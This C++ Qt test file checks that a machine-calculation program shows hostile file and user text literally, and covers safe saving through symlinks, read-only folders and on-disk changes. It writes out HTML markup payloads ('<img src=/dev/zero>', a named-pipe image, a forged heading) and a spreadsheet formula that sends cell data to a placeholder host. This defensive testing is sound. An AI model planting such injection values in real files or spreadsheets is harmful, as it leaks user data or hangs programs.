// Hostile files and texts through the real windows: what a machine file holds
// or the user types is shown as it stands (labels, message boxes, hints,
// titles), never loaded and never run by a spreadsheet; a file changed on
// disk since it was opened, or opened through a link, is not overwritten
// behind the user's back; a folder that takes no new file offers another;
// the notes keep to what the file holds.
#include "calc/input_text.h"
#include "machine/machine_file.h"
#include "main_window_fixture.h"
#include "ui/machine/machine_controller.h"
#include "ui/machine/machine_search_window.h"
#include "ui/machine/train_model.h"
#include "ui/machine/train_window.h"

#include <QAction>
#include <QClipboard>
#include <QHelpEvent>
#include <QLabel>
#include <QLineEdit>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QToolButton>
#include <QToolTip>
#include <QtTest>

#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

using namespace uitest;

namespace {

void writeBytes(const QString &path, const QByteArray &bytes) {
    QFile f(path);
    QVERIFY(f.open(QIODevice::WriteOnly | QIODevice::Truncate));
    QCOMPARE(f.write(bytes), bytes.size());
}

const QString kFormula = QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"клик\")");

// A machine file of one stored pair, with `from` replaced by `to`.
QByteArray machineFile(const QByteArray &from = {}, const QByteArray &to = {}) {
    machine::MachineState s;
    s.pairSlots[0] = {"8", "20", "42", "0"};
    s.inputs = s.pairSlots[0];
    s.document.known = machine::ReferenceSpeed{1, "1200", machine::SpeedUnit::PerMinute};
    QByteArray bytes = machine::machineFileBytes(s);
    return from.isEmpty() ? bytes : bytes.replace(from, to);
}

// Everything a window would show of its labels as markup.
QStringList markupLabels() {
    QStringList found;
    for (QWidget *window : QApplication::topLevelWidgets())
        for (QLabel *label : window->findChildren<QLabel *>())
            if (label->textFormat() != Qt::PlainText)
                found << window->objectName() + "/" + label->objectName();
    return found;
}

// The hint the user would see over `widget` at `pos`.
QString hintShown(QWidget *widget, const QPoint &pos) {
    QToolTip::hideText();
    QHelpEvent event(QEvent::ToolTip, pos, widget->mapToGlobal(pos));
    QApplication::sendEvent(widget, &event);
    return QToolTip::isVisible() ? QToolTip::text() : QString();
}

} // namespace

class HostileFilesTest : public QObject, protected MainWindowFixture {
    Q_OBJECT

private:
    QString path(const QString &name) const { return fixture->workDir.filePath(name); }
    TrainWindow *openTable() {
        machine->tableAction->trigger();
        return machine->trainWindow();
    }
    void open(const QString &file) {
        const auto seen = closeModalsDuring([&] { QVERIFY(machine->openFile(file)); });
        QVERIFY2(seen.isEmpty(), describe(seen));
    }
    void setName(TrainWindow *w, const QString &name) {
        w->nameEdit->setText(name);
        emit w->nameEdit->textEdited(name);
    }

private slots:
    void init() { QVERIFY(startWithMachine()); }
    void cleanup() { stopMainWindow(); }

    // The rule itself: no label of any window reads its text as markup.
    void every_label_of_every_window_is_plain() {
        openTable();
        machine->searchAction->trigger();
        QVERIFY(form->findChild<MachineSearchWindow *>());
        QCOMPARE(markupLabels(), QStringList());
    }

    // A refused file's message quotes the file as text: nothing it names is
    // read (a pipe would hang the program, /dev/zero fill its memory) and
    // no heading can pass itself off as the program's own word.
    void markup_in_a_refused_file_is_shown_as_text_data() {
        QTest::addColumn<QString>("format");
        QTest::newRow("endless image") << "<img src=/dev/zero>";
        QTest::newRow("image from a named pipe") << "<img src=PIPE>";
        QTest::newRow("forged heading") << "<h1 style=\"color:red\">ФАЙЛ ОТКРЫТ</h1>";
    }
    void markup_in_a_refused_file_is_shown_as_text() {
        QFETCH(QString, format);
        const QString pipe = path("pipe");
        QCOMPARE(::mkfifo(QFile::encodeName(pipe).constData(), 0600), 0);
        format.replace("PIPE", pipe);
        QByteArray quoted = format.toUtf8();
        quoted.replace("\"", "\\\"");
        const QString file = path("hostile.json");
        writeBytes(file, machineFile("\"gearfreq-machine\"", "\"" + quoted + "\""));
        const auto seen = closeModalsDuring([&] { QVERIFY(!machine->openFile(file)); });
        QCOMPARE(seen.size(), 1);
        QVERIFY2(seen[0].texts.value(0).contains("(формат \"" + format + "\")"),
                 qPrintable(describe(seen)));
    }

    // Texts of a file the program accepts, and texts typed by the user.
    void markup_in_accepted_and_typed_texts_is_shown_as_text() {
        const QByteArray markup = "<img src=/dev/zero>";
        const QString file = path("speed.json");
        writeBytes(file, machineFile("\"speed\": \"1200\"", "\"speed\": \"" + markup + "\""));
        open(file);
        TrainWindow *w = openTable();
        QVERIFY2(w->statusLabel->text().contains(QString(markup)),
                 qPrintable(w->statusLabel->text()));
        // The write-back refuses the speed and quotes it.
        auto seen = closeModalsDuring([&] { QVERIFY(!machine->writeChain()); });
        QCOMPARE(seen.size(), 1);
        QVERIFY2(seen[0].texts.join(' ').contains(QString(markup)), qPrintable(describe(seen)));

        machine->searchAction->trigger();
        auto *search = form->findChild<MachineSearchWindow *>();
        search->frequencyEdit->setText(QStringLiteral("<b>сто</b>"));
        QTest::keyClick(search->frequencyEdit, Qt::Key_Return);
        QVERIFY2(search->messageLabel->text().contains(QStringLiteral("«<b>сто</b>»")),
                 qPrintable(search->messageLabel->text()));

        // A save error quotes the path.
        const QString folder = path("<h1>нет такой папки</h1>");
        seen = closeModalsDuring([&] { QVERIFY(!machine->saveTo(folder + "/m.json")); });
        QCOMPARE(seen.size(), 1);
        QVERIFY2(seen[0].texts.value(0).contains(folder), qPrintable(describe(seen)));
        QCOMPARE(markupLabels(), QStringList());
    }

    // Hints, the program's own and those of table cells, are shown literally.
    void hints_are_shown_as_written() {
        TrainWindow *w = openTable();
        const QString markup = QStringLiteral("<img src=/dev/zero>подсказка");
        const QString literal = Qt::convertFromPlainText(markup, Qt::WhiteSpaceNormal);
        w->nameEdit->setToolTip(markup);
        QCOMPARE(hintShown(w->nameEdit, QPoint(5, 5)), literal);

        machine::TextTable table;
        table.headers = {QStringLiteral("Пара")};
        table.rows = {{machine::TableCell{QStringLiteral("1"), markup, false}}};
        w->pairsModel->setTable(table);
        const QRect cell = w->pairsView->visualRect(w->pairsModel->index(0, 0));
        QCOMPARE(hintShown(w->pairsView->viewport(), cell.center()), literal);
        // A hint without markup stays as Qt shows it.
        w->nameEdit->setToolTip(QStringLiteral("Название агрегата"));
        QCOMPARE(hintShown(w->nameEdit, QPoint(5, 5)), QStringLiteral("Название агрегата"));
    }

    // A pair from a file whose Z1 is a formula: exported and copied as text.
    void formula_from_a_file_reaches_no_spreadsheet_as_a_formula() {
        const QString file = path("formula.json");
        QByteArray quoted = kFormula.toUtf8();
        quoted.replace("\"", "\\\"");
        writeBytes(file, machineFile("{\"Z1\": \"8\"", "{\"Z1\": \"" + quoted + "\""));
        // The pair shown is calculated on opening and refused.
        const auto seen = closeModalsDuring([&] { QVERIFY(machine->openFile(file)); });
        QCOMPARE(seen.size(), 1);
        QCOMPARE(seen[0].objectName, QStringLiteral("TForm3"));
        QVERIFY(machine->exportTo(path("table.csv")));
        const QByteArray csv = fileBytes(path("table.csv"));
        QVERIFY2(csv.contains("\n1;\"'=HYPERLINK(\"\"http"), csv.constData());
        machine->copyTable();
        QVERIFY(QApplication::clipboard()->text().contains("\n1\t'=HYPERLINK(\"http"));
        TrainWindow *w = openTable();
        w->pairsView->setCurrentIndex(w->pairsModel->index(0, machine::ColZ1));
        QTest::keyClick(w->pairsView, Qt::Key_C, Qt::ControlModifier);
        QCOMPARE(QApplication::clipboard()->text(), "'" + kFormula + "\n");
    }

    // Two windows (or programs) on one file: the second save asks before it
    // replaces what the other one saved since.
    void file_changed_on_disk_is_not_replaced_silently_data() {
        QTest::addColumn<QString>("answer");
        QTest::addColumn<bool>("replaced");
        QTest::newRow("Отмена keeps the other change") << "cancelButton" << false;
        QTest::newRow("Заменить writes this one") << "replaceButton" << true;
    }
    void file_changed_on_disk_is_not_replaced_silently() {
        QFETCH(QString, answer);
        QFETCH(bool, replaced);
        const QString file = path("m.json");
        writeBytes(file, machineFile());
        open(file);
        // The other instance renames the machine and saves.
        const QByteArray other = machineFile("\"name\": \"\"", "\"name\": \"B\"");
        writeBytes(file, other);
        TrainWindow *w = openTable();
        w->notesEdit->setPlainText(QStringLiteral("заметки A"));
        const auto seen =
            closeModalsDuring([&] { machine->saveAction->trigger(); }, pressButton(answer));
        QCOMPARE(seen.size(), 1);
        QCOMPARE(seen[0].objectName, QStringLiteral("machineConfirmReplace"));
        QCOMPARE(fileBytes(file).contains("заметки A"), replaced);
        QCOMPARE(fileBytes(file) == other, !replaced);
        QCOMPARE(machine->modified(), !replaced);
        // Once written, this window's own file: the next save asks nothing.
        if (replaced) {
            w->notesEdit->setPlainText(QStringLiteral("заметки A2"));
            const auto again = closeModalsDuring([&] { machine->saveAction->trigger(); });
            QVERIFY2(again.isEmpty(), describe(again));
        }
    }

    // The file the user opened through a link is the one saved; the link stays.
    void file_opened_through_a_link_is_saved_where_it_is() {
        QVERIFY(QDir(fixture->workDir.path()).mkdir("machines"));
        const QString real = path("machines/pump.json");
        writeBytes(real, machineFile());
        const QString link = path("link.json");
        QVERIFY(QFile::link("machines/pump.json", link));
        open(link);
        const QString resolved = QFileInfo(real).canonicalFilePath();
        QCOMPARE(machine->filePath(), resolved);
        TrainWindow *w = openTable();
        QVERIFY2(w->windowTitle().contains(QStringLiteral("pump.json (") +
                                           QFileInfo(resolved).absolutePath()),
                 qPrintable(w->windowTitle()));
        setName(w, QStringLiteral("Насос"));
        QVERIFY(machine->save());
        QVERIFY(QFileInfo(link).isSymLink());
        QVERIFY(fileBytes(real).contains("\"name\": \"Насос\""));
    }

    // A folder that takes no new file: no half-written file, a message that
    // says so, and "Сохранить как…" to another folder.
    void read_only_folder_offers_another() {
        const QString folder = path("readonly");
        QVERIFY(QDir(fixture->workDir.path()).mkdir("readonly"));
        const bool root = ::geteuid() == 0;
        const QByteArray mountPoint = QFile::encodeName(folder);
        if (root && ::mount("tmpfs", mountPoint.constData(), "tmpfs", MS_RDONLY, "size=64k") != 0)
            QSKIP("this system refuses a read-only tmpfs mount");
        if (!root)
            QCOMPARE(::chmod(mountPoint.constData(), 0555), 0);
        const QString elsewhere = path("elsewhere.json");
        const auto seen = closeModalsDuring([&] { QVERIFY(machine->saveTo(folder + "/m.json")); },
                                            choosing(elsewhere, QStringLiteral("saveAsButton")));
        if (root)
            ::umount2(mountPoint.constData(), MNT_DETACH);
        QCOMPARE(seen.size(), 2);
        QCOMPARE(seen[0].objectName, QStringLiteral("machineFolderRefused"));
        QVERIFY2(seen[0].texts.value(0).contains(QStringLiteral("папка «%1» не принимает новых "
                                                                "файлов")
                                                     .arg(folder)),
                 qPrintable(describe(seen)));
        QCOMPARE(machine->filePath(), elsewhere);
        QVERIFY(fileBytes(elsewhere).startsWith("{\n  \"format\": \"gearfreq-machine\""));
    }

    // What the file keeps is what the field takes: nothing cut silently at the
    // save, and the unsaved mark follows every change.
    void notes_take_no_more_than_the_file_keeps() {
        TrainWindow *w = openTable();
        QVERIFY(!w->windowTitle().endsWith(" *"));
        const QString astral = QStringLiteral("\U0001D538");
        w->notesEdit->setPlainText(QString(machine::kNotesLimit - 2, QChar(u'a')));
        QVERIFY(w->windowTitle().endsWith(" *"));
        QVERIFY(!w->notesLimitLabel->isVisibleTo(w));
        // A paste of three astral characters: one fits, whole.
        w->notesEdit->moveCursor(QTextCursor::End);
        w->notesEdit->insertPlainText(astral + astral + astral);
        QCOMPARE(calc::characterCount(w->notesEdit->toPlainText()),
                 qsizetype(machine::kNotesLimit));
        QVERIFY(w->notesEdit->toPlainText().endsWith(QString(2, QChar(u'a')) + astral + astral));
        QVERIFY(w->notesLimitLabel->isVisibleTo(w));
        // Typing at the limit adds nothing.
        QTest::keyClick(w->notesEdit, Qt::Key_B);
        QCOMPARE(calc::characterCount(w->notesEdit->toPlainText()),
                 qsizetype(machine::kNotesLimit));
        QVERIFY(!w->notesEdit->toPlainText().contains('b'));
        // Saved and opened again, the notes are what the field showed.
        const QString notes = w->notesEdit->toPlainText();
        QVERIFY(machine->saveTo(path("notes.json")));
        QVERIFY(!w->windowTitle().endsWith(" *"));
        QTest::keyClick(w->notesEdit, Qt::Key_Backspace);
        QVERIFY(w->windowTitle().endsWith(" *"));
        QVERIFY(!w->notesLimitLabel->isVisibleTo(w));
        open(path("notes.json"));
        QCOMPARE(w->notesEdit->toPlainText(), notes);
    }
};

QTEST_MAIN(HostileFilesTest)
#include "tst_hostile_files.moc"
